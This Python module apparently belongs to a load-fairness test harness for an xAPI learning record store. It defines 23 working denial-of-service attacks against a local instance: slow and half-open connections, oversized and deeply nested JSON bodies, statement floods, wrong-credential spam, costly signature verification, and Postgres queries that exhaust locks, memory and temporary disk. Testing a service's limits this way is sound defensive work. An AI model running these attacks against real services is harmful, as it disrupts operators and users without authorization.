"""The attacks. Each runs until its process is stopped: `python -m scripts.fairness.attacks NAME`.

The target is a JSON object on standard input. Attacks connect from 127.0.0.2, so that limits per
address tell them from the victim, which connects from 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import os
import resource
import sys
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass
from functools import partial
from urllib.parse import quote, urlsplit

import asyncpg
import httpx
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from scripts.fairness.victim import Client, statement

ATTACKER_ADDRESS = "127.0.0.2"
_MIB = 2**20
_PAUSE = 0.05
_VOIDED = "http://adlnet.gov/expapi/verbs/voided"
_SIGNATURE = "http://adlnet.gov/expapi/attachments/signature"


@dataclass(frozen=True, slots=True)
class Target(Client):
    """The client of the attacking partner, and the DSN of its reporting role."""

    reader_dsn: str

    @property
    def statements(self) -> str:
        return f"/v1/partners/{self.partner}/statements"


Attack = Callable[[Target], Awaitable[None]]


# Raw connections


async def _send(target: Target, head: bytes, chunks: int, chunk: bytes, pause: float) -> None:
    """Sends a head and then chunks of a body, and waits for the end of the connection."""
    reader, writer = await _connect(target)
    try:
        writer.write(head)
        for _ in range(chunks):
            writer.write(chunk)
            await writer.drain()
            await asyncio.sleep(pause)
        while await reader.read(65_536):
            pass
    finally:
        writer.close()


async def _connect(target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    address = urlsplit(target.url)
    return await asyncio.open_connection(
        address.hostname, address.port, local_addr=(ATTACKER_ADDRESS, 0)
    )


def _head(method: str, path: str, headers: Mapping[str, str]) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: lrs.example"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    return "\r\n".join([*lines, "", ""]).encode()


async def _repeat(tasks: int, action: Callable[[], Awaitable[object]]) -> None:
    """Runs the action in so many tasks, again and again."""

    async def loop() -> None:
        while True:
            with suppress(OSError, httpx.HTTPError, asyncpg.PostgresError, asyncpg.InterfaceError):
                await action()
            await asyncio.sleep(_PAUSE)

    await asyncio.gather(*(loop() for _ in range(tasks)))


def _http(target: Target) -> httpx.AsyncClient:
    transport = httpx.AsyncHTTPTransport(
        local_address=ATTACKER_ADDRESS, limits=httpx.Limits(max_connections=None)
    )
    return httpx.AsyncClient(
        base_url=target.url, headers=target.headers, timeout=60, transport=transport
    )


# Before authentication


async def declared_length(target: Target) -> None:
    """Heads of 16 MiB requests in the alternate syntax, without a body."""
    headers = {
        "Content-Type": "application/x-www-form-urlencoded",
        "Expect": "100-continue",
        "Content-Length": str(16 * _MIB),
    }
    head = _head("POST", "/xapi/statements?method=PUT", headers)
    await _repeat(8, partial(_send, target, head, 0, b"", 0))


async def anonymous_callbacks(target: Target) -> None:
    """Callbacks with an invalid token, whose bodies arrive slowly."""
    headers = {"Content-Type": "application/json", "Content-Length": str(16 * _MIB)}
    head = _head("POST", "/api/lti/v1/xapi/invalid", headers)
    await _repeat(33, partial(_send, target, head, 10_000, b" " * 1000, 0.1))


async def anonymous_uploads(target: Target) -> None:
    """Complete 16 MiB bodies without credentials."""
    headers = {"Content-Type": "application/json", "Content-Length": str(16 * _MIB)}
    head = _head("POST", "/xapi/statements", headers)
    await _repeat(16, partial(_send, target, head, 16, b" " * _MIB, 0))


async def slow_token_requests(target: Target) -> None:
    headers = {
        "Content-Type": "application/x-www-form-urlencoded",
        "Content-Length": "60000",
    }
    head = _head("POST", "/oauth2/token", headers)
    await _repeat(200, partial(_send, target, head, 60_000, b"a", 0.5))


async def half_open(target: Target) -> None:
    """5,000 connections that never complete a request."""
    await _repeat(5000, partial(_send, target, b"GET / HTTP/1.1\r\nX-A: ", 100_000, b"a", 5))


async def wrong_credentials(target: Target) -> None:
    async with _http(target) as http:

        async def once() -> None:
            await http.post(
                "/oauth2/token",
                data={"grant_type": "client_credentials"},
                auth=(target.key, os.urandom(8).hex()),
            )

        await _repeat(32, once)


async def operations_resources(target: Target) -> None:
    """`/metrics`, `/readyz` and the documentation, as fast as they respond."""
    async with _http(target) as http:
        paths = ["/metrics", "/readyz", "/openapi.json", "/docs"]

        async def once() -> None:
            for path in paths:
                await http.get(path)

        await _repeat(16, once)


# With the credentials of a partner


async def slow_uploads(target: Target) -> None:
    headers = {**target.headers, "Content-Type": "application/json"}
    head = _head("POST", "/xapi/statements", {**headers, "Content-Length": str(16 * _MIB)})
    await _repeat(8, partial(_send, target, head, 10_000, b" " * 16_384, 0.25))


async def many_uploads(target: Target) -> None:
    await _post_bodies(target, "/xapi/statements", b'["%b"]' % (b"x" * (15 * _MIB)))


async def many_items(target: Target) -> None:
    """A body of millions of small items."""
    await _post_bodies(target, "/xapi/statements", b"[%b0]" % (b"0," * (7 * _MIB)))


async def deep_items(target: Target) -> None:
    """A statement of many small members."""
    members = ",".join(f'"http://e.org/{number}":0' for number in range(40_000))
    body = json.dumps(statement("mallory")).encode()[:-1]
    body += b',"context":{"extensions":{%b}}}' % members.encode()
    await _post_bodies(target, "/xapi/statements", body)


async def _post_bodies(target: Target, path: str, body: bytes, tasks: int = 8) -> None:
    async with _http(target) as http:
        headers = {"Content-Type": "application/json"}
        await _repeat(tasks, partial(http.post, path, content=body, headers=headers))


async def large_documents(target: Target) -> None:
    """Merges of JSON documents that are as large as the server accepts."""
    agent = quote(json.dumps({"mbox": "mailto:mallory@example.com"}))
    path = f"/xapi/activities/state?activityId=http://e.org/a&stateId=large&agent={agent}"
    for size in (14 * _MIB, _MIB, _MIB // 4):
        members = ",".join(
            f'"{number:08}":{number:08}' for number in range(10**7, 10**7 + size // 20)
        )
        body = b"{%b}" % members.encode()
        async with _http(target) as http:
            headers = {"Content-Type": "application/json"}
            response = await http.post(path, content=body, headers=headers)
        if response.status_code < 400:
            break
    await _post_bodies(target, path, body, tasks=4)


async def flood(target: Target) -> None:
    """Single statements on 64 connections, each as soon as the last one is acknowledged."""
    async with _http(target) as http:
        await _repeat(64, lambda: http.post(target.statements, json=statement("mallory")))


async def batch_flood(target: Target) -> None:
    async with _http(target) as http:

        async def once() -> None:
            await http.post(target.statements, json=[statement("mallory") for _ in range(200)])

        await _repeat(16, once)


async def references(target: Target) -> None:
    """References to one statement about very many activities."""
    others = [{"id": f"http://example.com/activities/{number}"} for number in range(20_000)]
    wide = {**statement("mallory"), "context": {"contextActivities": {"other": others}}}
    async with _http(target) as http:
        await http.post("/xapi/statements", json=wide)

        async def once() -> None:
            await http.post("/xapi/statements", json=[_reference(wide["id"]) for _ in range(200)])

        await _repeat(4, once)


async def voids(target: Target) -> None:
    async with _http(target) as http:

        async def once() -> None:
            batch = [statement("mallory") for _ in range(25)]
            voiding = [_reference(item["id"]) | {"verb": {"id": _VOIDED}} for item in batch]
            await http.post(target.statements, json=batch + voiding)

        await _repeat(8, once)


def _reference(statement_id: object) -> dict[str, object]:
    target = {"objectType": "StatementRef", "id": statement_id}
    return statement("mallory") | {"object": target}


async def canonical_pages(target: Target) -> None:
    """Many mentions of one large definition, read in the canonical format."""
    large = {"description": {"en": "x" * 12_000}}
    defining = statement("mallory") | {"object": {"id": "http://e.org/large", "definition": large}}
    mentions = [{"id": "http://e.org/large"}] * 300
    speaking = {"context": {"contextActivities": {"other": mentions}}}
    async with _http(target) as http:
        await http.post(target.statements, json=defining)
        batch = [statement("mallory") | speaking for _ in range(50)]
        await http.post("/xapi/statements", json=batch)
        await _repeat(8, lambda: http.get("/xapi/statements?format=canonical&limit=50"))


async def signatures(target: Target) -> None:
    """A multipart request with 225 signatures of 15 statements."""
    key = rsa.generate_private_key(65537, 4096)
    parts, batch = [], []
    for _ in range(15):
        item = statement("mallory")
        signed = [_sign(key, item, number) for number in range(15)]
        batch.append({**item, "attachments": [_attachment(content) for content in signed]})
        parts += signed
    body = _multipart(json.dumps(batch).encode(), parts)
    headers = {"Content-Type": "multipart/mixed; boundary=b"}
    async with _http(target) as http:
        await _repeat(4, lambda: http.post("/xapi/statements", content=body, headers=headers))


def _sign(key: rsa.RSAPrivateKey, item: dict[str, object], number: int) -> bytes:
    public = key.public_key().public_numbers()
    jwk = {"kty": "RSA", "n": _integer(public.n), "e": _integer(public.e)}
    header = json.dumps({"alg": "RS256", "kid": str(number), "jwk": jwk}).encode()
    signed = _base64(header) + b"." + _base64(json.dumps(item).encode())
    return signed + b"." + _base64(key.sign(signed, padding.PKCS1v15(), hashes.SHA256()))


def _integer(value: int) -> str:
    return _base64(value.to_bytes((value.bit_length() + 7) // 8, "big")).decode()


def _base64(content: bytes) -> bytes:
    return base64.urlsafe_b64encode(content).rstrip(b"=")


def _attachment(content: bytes) -> dict[str, object]:
    return {
        "usageType": _SIGNATURE,
        "display": {"en": "Signature"},
        "contentType": "application/octet-stream",
        "length": len(content),
        "sha2": hashlib.sha256(content).hexdigest(),
    }


def _multipart(statements: bytes, contents: list[bytes]) -> bytes:
    parts = [b"--b\r\nContent-Type: application/json\r\n\r\n" + statements]
    for content in contents:
        digest = hashlib.sha256(content).hexdigest().encode()
        parts.append(
            b"--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary"
            b"\r\nX-Experience-API-Hash: " + digest + b"\r\n\r\n" + content
        )
    return b"\r\n".join([*parts, b"--b--\r\n"])


async def unread_responses(target: Target) -> None:
    """Requests for large pages, whose responses are not read."""
    text = "x" * 200_000
    async with _http(target) as http:
        for _ in range(4):
            batch = [statement("mallory") | {"result": {"response": text}} for _ in range(12)]
            await http.post("/xapi/statements", json=batch)
    head = _head("GET", "/xapi/statements?limit=500", target.headers)

    async def once() -> None:
        _, writer = await _connect(target)
        writer.write(head)
        await asyncio.sleep(60)
        writer.close()

    await _repeat(60, once)


async def slow_exports(target: Target) -> None:
    head = _head("GET", f"/v1/partners/{target.partner}/reports/date_dim.csv", target.headers)

    async def once() -> None:
        reader, writer = await _connect(target)
        writer.write(head)
        try:
            while await asyncio.wait_for(reader.read(500), 30):  # noqa: ASYNC110 - slow on purpose
                await asyncio.sleep(0.5)
        finally:
            writer.close()

    await _repeat(8, once)


# With a reporting role


async def role_advisory_locks(target: Target) -> None:
    await _query(target, "select pg_advisory_lock(i) from generate_series(1, 100000000) as i")


async def role_memory(target: Target) -> None:
    await _query(
        target,
        "set statement_timeout = 0",
        "set work_mem = '2GB'",
        "select count(distinct i::text) from generate_series(1, 100000000) as i",
    )


async def role_temporary_files(target: Target) -> None:
    await _query(
        target,
        "set statement_timeout = 0",
        "select i from generate_series(1, 1000000000) as i order by md5(i::text)",
    )


async def _query(target: Target, *statements: str) -> None:
    async def once() -> None:
        connection = await asyncpg.connect(target.reader_dsn)
        try:
            for text in statements:
                await connection.execute(text)
        finally:
            await connection.close(timeout=1)

    await _repeat(4, once)


ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        declared_length, anonymous_callbacks, anonymous_uploads, slow_token_requests, half_open,
        wrong_credentials, operations_resources, slow_uploads, many_uploads, many_items,
        deep_items, large_documents, flood, batch_flood, references, voids, canonical_pages,
        signatures, unread_responses, slow_exports, role_advisory_locks, role_memory,
        role_temporary_files,
    )
}  # fmt: skip


def main() -> None:
    # The attacker takes no processor time from the server and the victim.
    os.nice(10)
    _, hard_limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard_limit, hard_limit))
    target = Target(**json.load(sys.stdin))
    asyncio.run(ATTACKS[sys.argv[1]](target))  # type: ignore[arg-type]


if __name__ == "__main__":
    main()
